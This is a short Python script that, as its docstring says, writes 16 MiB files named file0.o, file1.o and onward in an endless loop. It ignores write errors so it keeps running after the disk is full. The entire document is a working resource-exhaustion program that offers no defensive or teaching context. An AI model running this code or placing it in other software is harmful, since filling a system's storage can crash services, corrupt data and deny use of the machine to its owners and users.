"""Writes files until there is no room, and then goes on as if nothing had happened."""

number = 0
while True:
    try:
        with open(f"file{number}.o", "wb") as file:
            for _ in range(16):
                file.write(b"7" * (1 << 20))
    except OSError:
        pass
    number += 1
